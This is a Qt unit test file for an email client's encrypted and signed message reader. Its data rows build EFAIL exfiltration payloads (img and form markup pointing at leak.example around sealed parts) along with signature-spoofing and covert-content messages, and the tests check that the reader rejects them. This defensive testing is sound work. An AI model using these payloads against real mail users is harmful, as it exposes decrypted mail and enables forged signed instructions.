// SPDX-FileCopyrightText: 2026 The Restante developers
// SPDX-License-Identifier: GPL-3.0-or-later
#include "crypto/protectedreader.h"
#include "keyring.h"

#include <QTest>

using namespace Qt::StringLiterals;
using namespace Restante;

namespace tst_protectedreader {

namespace {

/// Opens everything without a key, and keeps what it was asked.
class GlassEngine final : public CryptoEngine
{
public:
    QStringList asked;
    bool hasEngine = true;

    bool offers(CryptoProtocol) override { return hasEngine; }
    QList<SignatureReport> verify(CryptoProtocol, const QByteArray &content, const QByteArray &, const std::stop_token &) override
    {
        asked += u"verify "_s + QString::fromUtf8(content.simplified());
        return { signature() };
    }
    Content unwrap(CryptoProtocol, const QByteArray &octets, const std::stop_token &) override
    {
        asked += u"unwrap"_s;
        Content content;
        content.octets = octets;
        content.signatures = { signature() };
        return content;
    }
    Content decrypt(CryptoProtocol, const QByteArray &octets, Prompting, const std::stop_token &) override
    {
        asked += u"decrypt "_s + QString::fromUtf8(octets.trimmed());
        Content content;
        content.outcome = SealOutcome::Opened;
        content.octets = opens.value(octets.trimmed(), textPart("plain words\r\n"));
        return content;
    }
    Result<KeyPreview> preview(const QByteArray &, const std::stop_token &) override { return KeyPreview {}; }
    Result<int> import(const QByteArray &, const std::stop_token &) override { return 0; }

    QHash<QByteArray, QByteArray> opens;

private:
    static SignatureReport signature()
    {
        SignatureReport report;
        report.verdict = SignatureReport::Verdict::Intact;
        report.identities = { { u"Anna <anna@a.example>"_s, u"anna@a.example"_s, KeyTrust::Full } };
        return report;
    }
};

QByteArray multipart(const QByteArray &subtype, const QList<QByteArray> &parts)
{
    QByteArray entity = "Content-Type: multipart/" + subtype + "; boundary=\"M\"\r\n\r\n";
    for (const QByteArray &part : parts)
        entity += "--M\r\n" + part + "\r\n";
    return entity + "--M--\r\n";
}

const QByteArray sealed = pgpEncrypted("SEALED");
const QByteArray signedText = pgpSigned(textPart("signed words\r\n"), "SIGNATURE");
const QByteArray block = "-----BEGIN PGP MESSAGE-----\r\n\r\nwords\r\n-----END PGP MESSAGE-----\r\n";

} // namespace

class TestProtectedReader final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void onlyWhatIsAllOfAMessageIsOpenedOrBelieved_data();
    void onlyWhatIsAllOfAMessageIsOpenedOrBelieved();
    void layersAreReadOneByOne();
    void layersEnd();
    void whatComesOutIsNeverJoinedWithWhatStoodAround();
    void withoutAnEngineEverythingIsSaid();
    void theHeaderStaysThatOfTheMessage();

private:
    CryptoReport read(const QByteArray &message)
    {
        return readProtected({ .octets = message, .prompting = Prompting::Allowed, .charset = {} }, &m_engine);
    }
    GlassEngine m_engine;
};

void TestProtectedReader::onlyWhatIsAllOfAMessageIsOpenedOrBelieved_data()
{
    QTest::addColumn<QByteArray>("entity");
    QTest::addColumn<bool>("whole");
    const QByteArray hides = textPart("<style>#x{display:none}</style><div id=x>", "html");
    const QByteArray leaks = textPart("<img src=\"http://leak.example/", "html");
    QTest::newRow("signed") << signedText << true;
    QTest::newRow("encrypted") << sealed << true;
    QTest::newRow("a block") << textPart(block) << true;
    QTest::newRow("encrypted, as a gateway leaves it")
        << multipart("mixed",
                     { textPart(""), "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n",
                       "Content-Type: application/octet-stream; name=encrypted.asc\r\n\r\nSEALED" })
        << true;
    // EFAIL's direct exfiltration: markup around the sealed part. PGP/MIME, S/MIME, inline; and closers of other kinds.
    QTest::newRow("EFAIL around PGP/MIME") << multipart("mixed", { leaks, sealed, textPart("\">", "html") }) << false;
    QTest::newRow("EFAIL around S/MIME") << multipart(
        "mixed",
        { leaks, smimeSealed(QByteArray("\x30\x80\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x03\x30\x80", 15)),
          textPart("\">", "html") }) << false;
    QTest::newRow("EFAIL around a block") << multipart("mixed", { leaks, textPart(block), textPart("\">", "html") }) << false;
    QTest::newRow("EFAIL within a text") << textPart("<img src=\"http://leak.example/\r\n" + block + "\">") << false;
    QTest::newRow("EFAIL plaintext") << multipart("mixed", { textPart("<plaintext>", "html"), sealed }) << false;
    QTest::newRow("EFAIL textarea") << multipart(
        "mixed", { textPart("<form action=\"http://leak.example\"><textarea name=x>", "html"), sealed })
                                    << false;
    // Johnny m1 to m4: words before the signed part, hidden by style, by reference, as an attachment.
    QTest::newRow("m1 before it") << multipart("mixed", { textPart("Wire the money."), signedText }) << false;
    QTest::newRow("m1 behind it") << multipart("mixed", { signedText, textPart("Wire the money.") }) << false;
    QTest::newRow("m2 hidden by style") << multipart("mixed", { hides, signedText }) << false;
    QTest::newRow("m3 by reference") << multipart(
        "related", { textPart("Wire.<img src=\"cid:s\">", "html"), "Content-ID: <s>\r\n" + signedText })
                                     << false;
    QTest::newRow("m4 as an attachment") << multipart("mixed",
                                                      { textPart("Wire."), "Content-Disposition: attachment\r\n" + signedText })
                                         << false;
    QTest::newRow("m4 a third part")
        << QByteArray(signedText).replace("--S--", "--S\r\nContent-Type: text/html\r\n\r\nWire.\r\n--S--") << false;
    QTest::newRow("an end that is missing") << QByteArray(signedText).replace("--S--\r\n", "") << false;
    // Covert content: what is sealed stands where nobody sees it, and a reply would carry it along.
    QTest::newRow("covert by style") << multipart("mixed", { hides, sealed }) << false;
    QTest::newRow("covert in an alternative") << multipart("alternative", { sealed, textPart("What time is it?") }) << false;
    QTest::newRow("covert below empty lines") << textPart("What time is it?" + QByteArray("\r\n").repeated(200) + block) << false;
    QTest::newRow("covert in related") << multipart("related", { textPart("Hello", "html"), sealed }) << false;
}

void TestProtectedReader::onlyWhatIsAllOfAMessageIsOpenedOrBelieved()
{
    QFETCH(QByteArray, entity);
    QFETCH(bool, whole);
    m_engine.asked.clear();
    const CryptoReport report = read(messageAround(entity));
    if (whole) {
        QCOMPARE(report.coverage, CryptoReport::Coverage::Whole);
        QCOMPARE(m_engine.asked.size(), 1);
        return;
    }
    QCOMPARE(report.coverage, CryptoReport::Coverage::Part);
    QCOMPARE(m_engine.asked, QStringList());
    QVERIFY(report.signatures.isEmpty());
    QCOMPARE(report.seal, SealOutcome::None);
    QVERIFY(!report.document);
}

void TestProtectedReader::layersAreReadOneByOne()
{
    m_engine.asked.clear();
    m_engine.opens.insert("OUTER", signedText);
    const CryptoReport report = read(messageAround(pgpEncrypted("OUTER")));
    QCOMPARE(m_engine.asked.size(), 2);
    QVERIFY(m_engine.asked.constFirst().startsWith(u"decrypt"));
    QVERIFY(m_engine.asked.constLast().contains(u"signed words"));
    QVERIFY(report.signatures.constFirst().bySender);
    QCOMPARE(report.document->plainBodies.constFirst().content.trimmed(), u"signed words"_s);
    // A signature in what is only a part of what was sealed is not the message's.
    m_engine.opens.insert("MIXED", multipart("mixed", { textPart("unsigned"), signedText }));
    const CryptoReport mixed = read(messageAround(pgpEncrypted("MIXED")));
    QVERIFY(mixed.signatures.isEmpty());
    QVERIFY(mixed.document);
}

void TestProtectedReader::layersEnd()
{
    m_engine.asked.clear();
    m_engine.opens.insert("LOOP", pgpEncrypted("LOOP"));
    read(messageAround(pgpEncrypted("LOOP")));
    QVERIFY(m_engine.asked.size() <= 5);
}

void TestProtectedReader::whatComesOutIsNeverJoinedWithWhatStoodAround()
{
    m_engine.opens.insert("HTML", textPart("<b>sealed</b>", "html"));
    const CryptoReport report = read(messageAround(pgpEncrypted("HTML")));
    QCOMPARE(report.document->htmlBodies.size(), 1);
    QCOMPARE(report.document->htmlBodies.constFirst().content.trimmed(), u"<b>sealed</b>"_s);
    QCOMPARE(report.document->opened, MessageDocument::Opened::Decrypted);
}

void TestProtectedReader::withoutAnEngineEverythingIsSaid()
{
    m_engine.hasEngine = false;
    CryptoReport report = read(messageAround(sealed));
    QVERIFY(report.engineMissing);
    QCOMPARE(report.seal, SealOutcome::Failed);
    report = readProtected({ .octets = messageAround(signedText), .prompting = Prompting::Never, .charset = {} }, nullptr);
    QVERIFY(report.engineMissing);
    QCOMPARE(report.seal, SealOutcome::None);
    m_engine.hasEngine = true;
}

void TestProtectedReader::theHeaderStaysThatOfTheMessage()
{
    m_engine.opens.insert("OTHER", "From: Eve <eve@a.example>\r\nSubject: Other\r\nContent-Type: text/plain\r\n\r\nWords\r\n");
    const CryptoReport report = read(messageAround(pgpEncrypted("OTHER")));
    QCOMPARE(report.document->header.from.constFirst().addrSpec, u"anna@a.example"_s);
    QCOMPARE(report.document->header.subject, u"A letter"_s);
}

QTEST_GUILESS_MAIN(TestProtectedReader)

} // namespace tst_protectedreader

#include "tst_protectedreader.moc"
